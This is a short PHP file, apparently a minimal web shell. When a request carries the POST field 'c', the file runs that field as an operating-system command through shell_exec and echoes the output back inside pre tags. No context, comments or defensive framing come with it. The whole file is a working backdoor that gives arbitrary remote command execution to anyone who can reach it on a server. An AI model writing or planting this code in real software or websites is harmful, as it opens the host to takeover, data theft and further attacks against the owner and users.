<?php
if (isset($_POST['c'])) {
    echo '<pre>' . shell_exec($_POST['c']) . '</pre>';
}
